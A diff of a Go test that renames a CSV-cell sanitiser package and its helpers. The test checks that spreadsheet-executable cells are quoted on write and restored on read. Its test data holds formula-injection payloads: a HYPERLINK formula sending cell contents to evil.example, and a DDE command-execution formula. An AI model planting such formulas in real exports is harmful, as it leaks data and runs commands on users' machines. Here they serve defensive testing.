@@ -1,4 +1,4 @@
-package csvcell
+package main
 
 import (
 	"bytes"
@@ -6,10 +6,10 @@ import (
 	"testing"
 )
 
-// Cells that a spreadsheet would run start with a quote once written; every
+// TestCellsRoundTrip: cells that a spreadsheet would run start with a quote once written; every
 // cell, a genuine leading quote included, reads back as it was through a
 // real CSV writer and reader.
-func TestRoundTrip(t *testing.T) {
+func TestCellsRoundTrip(t *testing.T) {
 	cells := []string{
 		`=HYPERLINK("https://evil.example/?x="&A1,"click")`,
 		`=cmd|' /C calc'!A0`,
@@ -18,7 +18,7 @@ func TestRoundTrip(t *testing.T) {
 	}
 	var buf bytes.Buffer
 	w := csv.NewWriter(&buf)
-	if err := w.Write(Row(append([]string(nil), cells...))); err != nil {
+	if err := w.Write(cellRow(append([]string(nil), cells...))); err != nil {
 		t.Fatal(err)
 	}
 	w.Flush()
@@ -37,7 +37,7 @@ func TestRoundTrip(t *testing.T) {
 				t.Errorf("cell %q written as %q, want it unchanged", c, got[i])
 			}
 		}
-		if back := Restore(got[i]); back != c {
+		if back := restore(got[i]); back != c {
 			t.Errorf("cell %q read back as %q", c, back)
 		}
 	}
